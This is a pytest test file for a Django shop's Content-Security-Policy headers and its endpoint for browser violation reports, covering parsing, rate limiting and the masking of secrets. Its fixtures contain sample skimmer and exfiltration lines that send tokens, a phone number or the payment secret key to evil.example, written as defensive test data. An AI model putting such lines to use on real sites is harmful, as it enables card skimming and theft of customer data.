"""Content-Security-Policy on every page, the other browser headers, and violation reports."""

import json
import re

import pytest
from django.conf import settings
from django.core.cache import cache
from django.http import HttpResponse
from django.test import RequestFactory
from django.urls import reverse

from security import csp_reports
from security.events import EVENTS_PER_MINUTE
from security.headers import SecurityHeadersMiddleware
from security.models import SecurityEvent
from tests.factories import make_product

pytestmark = pytest.mark.django_db

REPORT_URL = "/csp-report/"

# What Chromium posts for `report-uri` when the checkout page blocks an injected script.
REPORT_URI_BODY = {
    "csp-report": {
        "document-uri": "https://shop.example/checkout/?step=pay",
        "referrer": "",
        "violated-directive": "script-src-elem",
        "effective-directive": "script-src-elem",
        "original-policy": "default-src 'self'; script-src 'self' 'nonce-abc'",
        "disposition": "enforce",
        "blocked-uri": "https://evil.example/skim.js?stolen=s3cr3t-token#x",
        "line-number": 12,
        "column-number": 4,
        "source-file": "https://shop.example/checkout/",
        "status-code": 200,
        "script-sample": "",
    }
}

# What Chromium posts to the `report-to` endpoint (the Reporting API): a batch of reports.
REPORTING_API_BODY = [
    {
        "age": 10,
        "type": "csp-violation",
        "url": "https://shop.example/checkout/",
        "user_agent": "Mozilla/5.0",
        "body": {
            "documentURL": "https://shop.example/checkout/",
            "blockedURL": "inline",
            "effectiveDirective": "script-src-elem",
            "originalPolicy": "default-src 'self'",
            "disposition": "enforce",
            "sourceFile": "https://shop.example/checkout/",
            "lineNumber": 40,
            "sample": "fetch('//evil.example/?tel=081 234 5678')",
            "statusCode": 200,
        },
    },
    {"age": 3, "type": "deprecation", "url": "https://shop.example/", "body": {"id": "x"}},
]


@pytest.fixture(autouse=True)
def fresh_rate_limits():
    """Each test starts with every client IP's report budget unused."""
    cache.clear()
    yield
    cache.clear()


def policy_of(response) -> dict[str, list[str]]:
    """The Content-Security-Policy header as {directive: [values]}."""
    header = response.headers["Content-Security-Policy"]
    directives = (part.split() for part in header.split(";") if part.strip())
    return {name: values for name, *values in directives}


def post_report(client, body, content_type="application/csp-report", **extra):
    data = body if isinstance(body, str | bytes) else json.dumps(body)
    return client.post(REPORT_URL, data=data, content_type=content_type, **extra)


# --- The policy ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url", ["/", "/cart/", "/checkout/", "/admin/login/", "/no-such-page/", REPORT_URL, "product"]
)
def test_every_page_gets_a_strict_policy_without_unsafe_sources(client, url):
    """Every page, the admin and error pages included, forbids inline and eval'd script,
    framing, plugins and <base>, and names where violations are reported."""
    if url == "product":
        url = make_product().get_absolute_url()
    response = client.get(url)
    policy = policy_of(response)
    values = [value for directive in policy.values() for value in directive]
    assert "'unsafe-inline'" not in values
    assert "'unsafe-eval'" not in values
    assert policy["frame-ancestors"] == ["'none'"]
    assert policy["base-uri"] == ["'none'"]
    assert policy["object-src"] == ["'none'"]
    assert "form-action" in policy
    assert "*" not in values
    assert policy["report-uri"] == [REPORT_URL]
    assert policy["report-to"] == ["csp-endpoint"]


def test_checkout_page_with_a_cart_keeps_the_strict_policy(client):
    """The payment page itself (a cart in the session) widens nothing but Omise's origins:
    still no unsafe sources, no framing, and violations are still reported."""
    product = make_product()
    client.post("/cart/add/", {"product": product.slug, "quantity": "1"})
    response = client.get("/checkout/")
    assert response.status_code == 200
    policy = policy_of(response)
    values = [value for directive in policy.values() for value in directive]
    assert "'unsafe-inline'" not in values and "'unsafe-eval'" not in values
    assert policy["frame-ancestors"] == ["'none'"]
    assert policy["base-uri"] == ["'none'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["report-uri"] == [REPORT_URL]
    for directive in ("script-src", "frame-src", "connect-src"):
        extra = set(policy[directive]) - {"'self'", "'none'", "'report-sample'"}
        extra = {value for value in extra if not value.startswith("'nonce-")}
        assert extra <= {settings.SANDBOX_ORIGIN}, (directive, extra)


def test_default_policy_allows_only_the_shop_itself():
    """Outside the checkout, scripts, connections and frames come from the shop or nowhere."""
    csp = settings.SECURE_CSP
    assert csp["default-src"] == ["'self'"]
    assert set(csp["script-src"]) <= {"'self'", "<CSP_NONCE_SENTINEL>", "'report-sample'"}
    assert csp["connect-src"] == ["'self'"]
    assert csp["frame-src"] == ["'none'"]


def test_script_nonce_is_fresh_on_every_request(client):
    """A page that uses a nonce gets a new unguessable one per response, and its tags carry it."""
    nonces = []
    for _ in range(2):
        response = client.get("/admin/login/")
        match = re.search(r"'nonce-([^']+)'", " ".join(policy_of(response)["script-src"]))
        assert match, "script-src carries no nonce"
        nonce = match.group(1)
        assert len(nonce) >= 16
        assert f'nonce="{nonce}"' in response.content.decode()
        nonces.append(nonce)
    assert nonces[0] != nonces[1]


def test_report_uri_points_at_the_report_endpoint():
    """The policy's report-uri is the URL the endpoint is really mounted at."""
    assert settings.SECURE_CSP["report-uri"] == [reverse("csp_report")]


# --- The other browser headers ---------------------------------------------------------------


def test_pages_carry_the_other_browser_security_headers(client):
    """Permissions, referrer, sniffing, opener isolation and the report endpoint on every page."""
    response = client.get("/")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "same-origin"
    assert response.headers["Cross-Origin-Opener-Policy"] == "same-origin"
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["Reporting-Endpoints"] == 'csp-endpoint="/csp-report/"'
    features = dict(
        item.strip().split("=", 1) for item in response.headers["Permissions-Policy"].split(",")
    )
    for feature in ("camera", "microphone", "geolocation", "payment", "usb"):
        assert features[feature] == "()", feature


def test_headers_middleware_leaves_a_views_own_header_alone():
    """A view that needs a feature (say, payment for a wallet button) keeps its own policy."""
    middleware = SecurityHeadersMiddleware(
        lambda request: HttpResponse(headers={"Permissions-Policy": "payment=(self)"})
    )
    response = middleware(RequestFactory().get("/"))
    assert response.headers["Permissions-Policy"] == "payment=(self)"
    assert "Reporting-Endpoints" in response.headers


# --- Violation reports -----------------------------------------------------------------------


def test_report_uri_format_is_stored_as_a_security_event(client):
    """A report-uri report becomes one CSP_VIOLATION event on the page where it happened,
    with the blocked URL's query string (which may carry stolen data) cut off."""
    response = post_report(client, REPORT_URI_BODY)
    assert response.status_code == 204
    event = SecurityEvent.objects.get()
    assert event.kind == SecurityEvent.Kind.CSP_VIOLATION
    assert event.path == "/checkout/"
    assert event.client_ip == "127.0.0.1"
    assert event.detail == {
        "document_uri": "https://shop.example/checkout/",
        "blocked_uri": "https://evil.example/skim.js",
        "violated_directive": "script-src-elem",
        "effective_directive": "script-src-elem",
        "source_file": "https://shop.example/checkout/",
        "line": 12,
        "sample": "",
        "disposition": "enforce",
    }
    assert "s3cr3t" not in json.dumps(event.detail)


def test_reporting_api_format_is_stored_and_other_report_types_ignored(client):
    """A Reporting API batch stores its csp-violation entries only, with long digit runs
    (a phone number, an account number) in the script sample masked."""
    response = post_report(client, REPORTING_API_BODY, content_type="application/reports+json")
    assert response.status_code == 204
    event = SecurityEvent.objects.get()
    assert event.detail["blocked_uri"] == "inline"
    assert event.detail["effective_directive"] == "script-src-elem"
    assert event.detail["line"] == 40
    assert event.detail["sample"].startswith("fetch('//evil.example/?tel=")
    assert "5678" not in event.detail["sample"]
    assert "[digits removed]" in event.detail["sample"]


def test_a_batch_stores_at_most_the_per_request_maximum(client):
    """A batch of many reports cannot flood the event table through one request."""
    batch = [REPORTING_API_BODY[0]] * (csp_reports.MAX_REPORTS_PER_REQUEST + 5)
    response = post_report(client, batch, content_type="application/reports+json")
    assert response.status_code == 204
    assert SecurityEvent.objects.count() == csp_reports.MAX_REPORTS_PER_REQUEST


def test_oversized_fields_are_truncated(client):
    """A report with huge or odd fields is stored small and typed, never as sent."""
    body = {
        "csp-report": {
            "document-uri": "https://shop.example/" + "a" * 5000,
            "script-sample": "x" * 1000,
            "line-number": "12",
            "blocked-uri": 7,
        }
    }
    assert post_report(client, body).status_code == 204
    detail = SecurityEvent.objects.get().detail
    assert len(detail["document_uri"]) == csp_reports.FIELD_CHARS
    assert len(detail["sample"]) == csp_reports.SAMPLE_CHARS
    assert detail["line"] is None
    assert detail["blocked_uri"] == ""


@pytest.mark.parametrize(
    ("body", "content_type", "status"),
    [
        ("{not json", "application/csp-report", 400),
        (b"\xff\xfe{}", "application/csp-report", 400),
        ('"a string"', "application/csp-report", 400),
        ('{"csp-report": "not an object"}', "application/csp-report", 400),
        ('{"something": {}}', "application/json", 400),
        ("[]", "application/reports+json", 400),
        ('[{"type": "deprecation", "body": {}}]', "application/reports+json", 400),
        ('[{"type": "csp-violation", "body": "x"}]', "application/reports+json", 400),
        ('[{"type": "csp-violation", "body": {}}, 5]', "application/reports+json", 400),
        (json.dumps(REPORT_URI_BODY), "text/plain", 415),
        ("csp-report=1", "application/x-www-form-urlencoded", 415),
        ('{"csp-report": {"sample": "' + "x" * (16 * 1024) + '"}}', "application/csp-report", 413),
    ],
    ids=[
        "bad-json",
        "not-utf8",
        "json-string",
        "report-not-object",
        "no-csp-report-key",
        "empty-batch",
        "no-csp-violation",
        "body-not-object",
        "item-not-object",
        "text-plain",
        "form-encoded",
        "oversized",
    ],
)
def test_malformed_reports_are_refused_and_store_nothing(client, body, content_type, status):
    """Anything but a well-formed CSP report of sane size is refused with its status code."""
    response = post_report(client, body, content_type=content_type)
    assert response.status_code == status
    assert not SecurityEvent.objects.exists()


def test_declared_oversize_is_refused_before_reading():
    """A Content-Length over the limit is refused (413) from the header alone: the view reads
    no byte of a body it will not accept. (Called directly: the test client cannot lie.)"""
    request = RequestFactory().post(
        REPORT_URL,
        data=json.dumps(REPORT_URI_BODY),
        content_type="application/csp-report",
        CONTENT_LENGTH=str(1024 * 1024),
    )
    response = csp_reports.csp_report(request)
    assert response.status_code == 413
    assert not SecurityEvent.objects.exists()


@pytest.mark.parametrize("method", ["get", "put", "delete"])
def test_only_post_is_allowed(client, method):
    """Reports are POSTed; any other method gets 405 and stores nothing."""
    response = getattr(client, method)(REPORT_URL)
    assert response.status_code == 405
    assert not SecurityEvent.objects.exists()


def test_reports_need_no_csrf_token():
    """Browsers send reports without a CSRF token, so the endpoint must not demand one."""
    from django.test import Client

    response = post_report(Client(enforce_csrf_checks=True), REPORT_URI_BODY)
    assert response.status_code == 204


def test_each_client_ip_is_rate_limited(client):
    """Past the per-minute budget a client gets 429 and nothing is stored; others still report."""
    limit = csp_reports.REPORTS_PER_MINUTE
    for _ in range(limit):
        assert post_report(client, REPORT_URI_BODY).status_code == 204
    refused = post_report(client, REPORT_URI_BODY)
    assert refused.status_code == 429
    assert refused.headers["Retry-After"] == "60"
    # Of the reports answered 204, a few a minute are kept (see the next test).
    assert SecurityEvent.objects.count() == EVENTS_PER_MINUTE < limit
    other = post_report(client, REPORT_URI_BODY, REMOTE_ADDR="203.0.113.9")
    assert other.status_code == 204


def test_a_flood_of_reports_keeps_a_few_rows_a_minute(client):
    """Reports are anyone's to send, ten to a request: one client address leaves at most
    EVENTS_PER_MINUTE rows a minute however many it sends; another is still recorded."""
    batch = [REPORTING_API_BODY[0]] * 10
    for _ in range(3):
        response = post_report(client, batch, content_type="application/reports+json")
        assert response.status_code == 204
    assert SecurityEvent.objects.count() == EVENTS_PER_MINUTE
    post_report(client, REPORT_URI_BODY, REMOTE_ADDR="203.0.113.9")
    assert SecurityEvent.objects.count() == EVENTS_PER_MINUTE + 1


def test_rotating_addresses_inside_one_ipv6_64_shares_the_rate_limit(client, settings):
    """A new address of one /64 for each report is still one client: past the budget, the
    whole /64 gets 429; the /64 next door does not."""
    settings.TRUSTED_PROXY_COUNT = 0
    limit = csp_reports.REPORTS_PER_MINUTE
    for i in range(limit):
        ip = f"2001:db8:9:1::{i + 1:x}" if i % 2 else f"2001:DB8:9:1:{i + 1:X}::1"
        assert post_report(client, REPORT_URI_BODY, REMOTE_ADDR=ip).status_code == 204
    assert post_report(client, REPORT_URI_BODY, REMOTE_ADDR="2001:db8:9:1::ffff").status_code == 429
    assert post_report(client, REPORT_URI_BODY, REMOTE_ADDR="2001:db8:9:2::1").status_code == 204


def test_unknown_addresses_share_one_rate_limit(client, settings):
    """Behind our proxy, clients it names as `unknown` (or junk) share one budget."""
    settings.TRUSTED_PROXY_COUNT = 1
    for i in range(csp_reports.REPORTS_PER_MINUTE):
        forwarded = "unknown" if i % 2 else "-"
        response = post_report(client, REPORT_URI_BODY, HTTP_X_FORWARDED_FOR=forwarded)
        assert response.status_code == 204
    assert post_report(client, REPORT_URI_BODY, HTTP_X_FORWARDED_FOR="junk").status_code == 429
    assert post_report(client, REPORT_URI_BODY, HTTP_X_FORWARDED_FOR="192.0.2.8").status_code == 204


def test_refused_requests_count_against_the_rate_limit(client):
    """Junk also spends the budget, so a flood of bad bodies is cut off just the same."""
    for _ in range(csp_reports.REPORTS_PER_MINUTE):
        assert post_report(client, "{junk").status_code == 400
    assert post_report(client, REPORT_URI_BODY).status_code == 429
    assert not SecurityEvent.objects.exists()


def test_a_secret_key_in_a_reported_url_is_not_stored(client, settings):
    """A blocked URL whose path carries the shop's Omise secret key is stored masked."""
    body = json.loads(json.dumps(REPORT_URI_BODY))
    body["csp-report"]["blocked-uri"] = f"https://evil.example/x/{settings.OMISE_SECRET_KEY}"
    assert post_report(client, body).status_code == 204
    stored = json.dumps(SecurityEvent.objects.get().detail)
    assert settings.OMISE_SECRET_KEY not in stored and "https://evil.example/x/" in stored
